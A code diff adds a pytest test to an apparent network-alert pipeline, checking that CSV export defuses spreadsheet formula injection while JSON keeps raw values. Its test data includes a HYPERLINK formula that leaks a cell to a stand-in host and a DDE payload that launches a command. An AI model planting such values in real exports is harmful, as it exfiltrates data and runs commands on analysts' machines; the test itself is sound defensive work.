@@ -2,14 +2,17 @@
 
 from __future__ import annotations
 
+import csv
+import json
 from datetime import datetime
+from pathlib import Path
 
 import duckdb
 import polars as pl
 import pytest
 
 from vigia.config import DatasetConfig
-from vigia.pipeline.alerts import attach_evidence
+from vigia.pipeline.alerts import attach_evidence, export_alerts
 
 CFG = DatasetConfig.model_validate(
     {
@@ -70,3 +73,23 @@ def test_no_alerts_no_query(con: duckdb.DuckDBPyConnection) -> None:
         schema={"alert_id": pl.String, "orig_h": pl.String, "window_start": pl.Datetime, "window_end": pl.Datetime}
     )
     assert attach_evidence(con, empty, CFG, "stg_conn")["evidence"].to_list() == []
+
+
+def test_csv_export_neutralises_formulas_and_json_keeps_the_values(tmp_path: Path) -> None:
+    """Entities and evidence come from the traffic: a user name '=HYPERLINK(...)' must not become a live
+    formula when an analyst opens the CSV in a spreadsheet (it did)."""
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "10.0.0.1"]
+    evidence = json.dumps([{"user_agent": "=cmd|' /C calc'!A0"}])
+    alerts = pl.DataFrame({
+        "alert_id": [f"a{i}" for i in range(len(hostile))], "user": hostile,
+        "window_start": [datetime(2026, 1, 5, 10)] * len(hostile), "ml_score": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.9],
+        "top_features": ["[]"] * len(hostile), "evidence": [evidence] * len(hostile),
+    })  # fmt: skip
+    paths = export_alerts(alerts, tmp_path, "2026-01-05")
+    with paths["csv"].open(newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["user"] for r in rows] == [f"'{v}" for v in hostile[:5]] + ["10.0.0.1"]
+    assert rows[0]["evidence"] == evidence  # starts with '[': not a formula
+    assert rows[0]["ml_score"] == "-0.5"  # numbers are left alone
+    records = json.loads(paths["json"].read_text())
+    assert [r["user"] for r in records] == hostile and records[0]["evidence"][0]["user_agent"].startswith("=cmd")
